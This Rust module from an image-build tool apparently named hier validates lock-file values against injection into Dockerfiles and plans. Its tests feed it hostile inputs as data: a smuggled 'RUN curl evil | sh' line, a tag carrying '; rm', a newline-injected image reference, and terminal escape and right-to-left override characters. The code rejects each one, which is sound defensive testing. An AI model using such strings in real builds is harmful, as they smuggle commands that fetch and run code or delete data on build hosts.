//! Nothing read from `hier.lock` is trusted before it is checked: every value hier later puts
//! in a reference, a tag, a Dockerfile or a path must have the one shape it can have (an image
//! id or digest is `sha256:` and 64 hex digits, a tag is a tag, a name is an image name, a
//! repository is a repository, a base's `from` is an image reference), and what a plan prints
//! from it (a variable's name, a context file's path) holds no control or invisible
//! character. A lock edited by hand or by an attacker is refused at the offending value (placed
//! by `place`) rather than built on.

use crate::diagnostic::Diagnostic;
use crate::name::ImageName;
use crate::reference::{Reference, check_repository, is_tag};
use crate::source::SourceFile;

use super::{Lock, LockEntry};

/// `sha256:` and 64 lower-case hex digits.
pub fn is_digest(value: &str) -> bool {
    value.strip_prefix("sha256:").is_some_and(|hex| {
        hex.len() == 64
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// The first value of the lock that does not have its shape.
pub fn check(lock: &Lock, source: &SourceFile) -> Result<(), Diagnostic> {
    for (name, entry) in &lock.images {
        if let Err(e) = ImageName::parse(name) {
            return Err(bad(source, name, name, format!("image `{name}`: {e}")));
        }
        check_entry(entry).map_err(|(value, what)| {
            bad(source, name, &value, format!("image `{name}`: {what}"))
        })?;
    }
    Ok(())
}

/// The offending value and what is wrong with it.
type Problem = (String, String);

/// `sha256:` and 12 lower-case hex digits, the short form of a digest.
pub fn is_short_digest(value: &str) -> bool {
    value.strip_prefix("sha256:").is_some_and(|hex| {
        hex.len() == 12
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// A short digest at `key`, or the problem.
fn short_digest(key: &str, value: &str) -> Result<(), Problem> {
    if is_short_digest(value) {
        return Ok(());
    }
    Err((
        value.to_string(),
        format!(
            "`{key}` is `{}`, not a short digest (`sha256:` and 12 hex digits)",
            printable(value)
        ),
    ))
}

/// A digest at `key`, or the problem.
fn digest(key: &str, value: &str) -> Result<(), Problem> {
    if is_digest(value) {
        Ok(())
    } else {
        Err((
            value.to_string(),
            format!(
                "`{key}` is `{}`, not a digest (`sha256:` and 64 hex digits)",
                printable(value)
            ),
        ))
    }
}

fn check_entry(e: &LockEntry) -> Result<(), Problem> {
    digest("inputs", &e.inputs)?;
    digest("fingerprint", &e.fingerprint)?;
    digest("image_id", &e.image_id)?;
    for (key, value) in [
        ("parent_image_id", &e.parent_image_id),
        ("previous_image_id", &e.previous_image_id),
        ("upstream_digest", &e.upstream_digest),
        ("packages", &e.packages),
        ("tests", &e.tests),
    ] {
        if let Some(v) = value {
            digest(key, v)?;
        }
    }
    for (component, value) in &e.components {
        digest(&format!("components.{component}"), value)?;
    }
    for (uses, id) in &e.uses_image_ids {
        ImageName::parse(uses).map_err(|m| (uses.clone(), m))?;
        digest(&format!("uses_image_ids.{uses}"), id)?;
    }
    for tag in &e.tags {
        if !is_tag(tag) {
            return Err((
                tag.clone(),
                format!("tag `{}` is not a tag", printable(tag)),
            ));
        }
    }
    for (repository, pushed) in &e.pushed {
        check_repository(repository).map_err(|m| (repository.clone(), m))?;
        digest(&format!("pushed.\"{repository}\""), pushed)?;
    }
    if humantime::parse_rfc3339(&e.built_at).is_err() {
        return Err((
            e.built_at.clone(),
            format!(
                "`built_at` is `{}`, not a UTC time like `2026-12-03T08:50:43Z`",
                printable(&e.built_at)
            ),
        ));
    }
    check_detail(e)
}

/// What a plan names changes with: a base's `from` is a reference, `template` a short digest,
/// and each variable and context file a printable name with a short digest.
fn check_detail(e: &LockEntry) -> Result<(), Problem> {
    if let Some(from) = &e.from {
        Reference::parse(from).map_err(|m| (from.clone(), format!("`from`: {}", printable(&m))))?;
    }
    if let Some(template) = &e.template {
        short_digest("template", template)?;
    }
    if e.context_files.len() > super::MAX_CONTEXT_FILES {
        let first = e.context_files.keys().next().cloned().unwrap_or_default();
        return Err((
            first,
            format!(
                "`context_files` lists {} files; hier records at most {}",
                e.context_files.len(),
                super::MAX_CONTEXT_FILES
            ),
        ));
    }
    for (table, map) in [("vars", &e.vars), ("context_files", &e.context_files)] {
        for (key, value) in map {
            if key.is_empty() || key.chars().any(crate::shown::hidden) {
                return Err((
                    key.clone(),
                    format!(
                        "`{table}` has the key `{}`, which a plan could not print",
                        printable(key)
                    ),
                ));
            }
            short_digest(&format!("{table}.\"{}\"", printable(key)), value)?;
        }
    }
    Ok(())
}

/// A value as it can be shown: control characters escaped.
fn printable(value: &str) -> String {
    value.escape_debug().to_string()
}

/// The problem with `value` of image `image`, placed where the value is written.
fn bad(source: &SourceFile, image: &str, value: &str, message: String) -> Diagnostic {
    let d = Diagnostic::error(format!("invalid lock file: {message}"))
        .help("hier writes this file; restore it from version control, or delete it to rebuild everything");
    match super::place::place(&source.text, image, value) {
        Some(span) => d.at(source.locate(span)),
        None => d.at_file(source.display.clone()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ID: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn lock(entry: &str) -> String {
        format!(
            "version = 1\n[images.base]\ninputs = \"{ID}\"\nfingerprint = \"{ID}\"\nbuilt_at = \"2026-12-03T08:50:43Z\"\n{entry}\n"
        )
    }

    fn parse(text: &str) -> Result<Lock, Diagnostic> {
        Lock::parse(&SourceFile::new("hier.lock".into(), text.to_string()))
    }

    #[test]
    fn a_well_formed_lock_passes() {
        assert!(parse(&lock(&format!("image_id = \"{ID}\"\ntags = [\"1.0.0\"]"))).is_ok());
    }

    #[test]
    fn a_value_that_could_inject_is_refused_at_its_place() {
        let d = parse(&lock("image_id = \"sha256:x\\nRUN curl evil | sh\"")).unwrap_err();
        assert_eq!(
            d.message,
            "invalid lock file: image `base`: `image_id` is `sha256:x\\nRUN curl evil | sh`, not a digest (`sha256:` and 64 hex digits)"
        );
        assert_eq!(d.place().unwrap(), "hier.lock:6:12");
        let d = parse(&lock(&format!(
            "image_id = \"{ID}\"\ntags = [\"1.0 ; rm\"]"
        )))
        .unwrap_err();
        assert!(
            d.message.contains("tag `1.0 ; rm` is not a tag"),
            "{}",
            d.message
        );
        let d = parse(&lock(&format!(
            "image_id = \"{ID}\"\n[images.base.pushed]\n\"r/x\" = \"sha256:short\""
        )))
        .unwrap_err();
        assert!(d.message.contains("`pushed.\"r/x\"`"), "{}", d.message);
    }

    #[test]
    fn a_build_time_is_a_time() {
        let d =
            parse(&lock(&format!("image_id = \"{ID}\"")).replace("2026-12-03T08:50:43Z", "soon"))
                .unwrap_err();
        assert_eq!(
            d.message,
            "invalid lock file: image `base`: `built_at` is `soon`, not a UTC time like `2026-12-03T08:50:43Z`"
        );
        assert_eq!(d.place().unwrap(), "hier.lock:5:12");
    }

    #[test]
    fn what_a_plan_explains_changes_with_is_checked_too() {
        const SHORT: &str = "sha256:0123456789ab";
        let ok = format!(
            "image_id = \"{ID}\"\nfrom = \"busybox:1.36\"\ntemplate = \"{SHORT}\"\n[images.base.vars]\ngreeting = \"{SHORT}\"\n[images.base.context_files]\n\"app/main.py\" = \"{SHORT}\""
        );
        assert!(parse(&lock(&ok)).is_ok());
        let d = parse(&lock(
            &ok.replace("busybox:1.36", "busybox:1.36\\nRUN evil"),
        ))
        .unwrap_err();
        assert_eq!(
            d.message,
            "invalid lock file: image `base`: `from`: image reference `busybox:1.36\\nRUN evil` contains white space"
        );
        assert_eq!(d.place().unwrap(), "hier.lock:7:8");
        let d = parse(&lock(&ok.replace("\"app/main.py\"", "\"app/\\u001b[2J\""))).unwrap_err();
        assert_eq!(
            d.message,
            "invalid lock file: image `base`: `context_files` has the key `app/\\u{1b}[2J`, which a plan could not print"
        );
        // Written with an escape, the key is still placed at its line.
        assert_eq!(d.place().unwrap(), "hier.lock:12:1");
        let d = parse(&lock(
            &ok.replace(&format!("greeting = \"{SHORT}\""), "greeting = \"x\""),
        ))
        .unwrap_err();
        assert_eq!(
            d.message,
            "invalid lock file: image `base`: `vars.\"greeting\"` is `x`, not a short digest (`sha256:` and 12 hex digits)"
        );
        let d = parse(&lock(&ok.replace(
            &format!("template = \"{SHORT}\""),
            &format!("template = \"{ID}\""),
        )))
        .unwrap_err();
        assert!(
            d.message.contains("`template` is `sha256:0123"),
            "{}",
            d.message
        );
        let d = parse(&lock(
            &ok.replace(&format!("template = \"{SHORT}\""), "template = \"é\""),
        ))
        .unwrap_err();
        assert_eq!(d.place().unwrap(), "hier.lock:8:12");
        // An invisible character that reorders what a terminal shows is refused like a control.
        let d = parse(&lock(
            &ok.replace("\"app/main.py\"", "\"app/\\u202emain.py\""),
        ))
        .unwrap_err();
        assert_eq!(
            d.message,
            "invalid lock file: image `base`: `context_files` has the key `app/\\u{202e}main.py`, which a plan could not print"
        );
        // No more files than a run records.
        let many: String = (0..=crate::lock::MAX_CONTEXT_FILES)
            .map(|i| format!("\"f{i}\" = \"{SHORT}\"\n"))
            .collect();
        let d = parse(&lock(
            &ok.replace(&format!("\"app/main.py\" = \"{SHORT}\""), &many),
        ))
        .unwrap_err();
        assert!(
            d.message
                .ends_with("`context_files` lists 1001 files; hier records at most 1000"),
            "{}",
            d.message
        );
    }

    #[test]
    fn digests_are_sha256_and_64_lower_hex() {
        assert!(is_digest(ID));
        assert!(!is_digest(&ID.to_uppercase()));
        assert!(!is_digest("sha256:abc"));
        assert!(!is_digest(&ID.replace("sha256", "sha512")));
    }
}
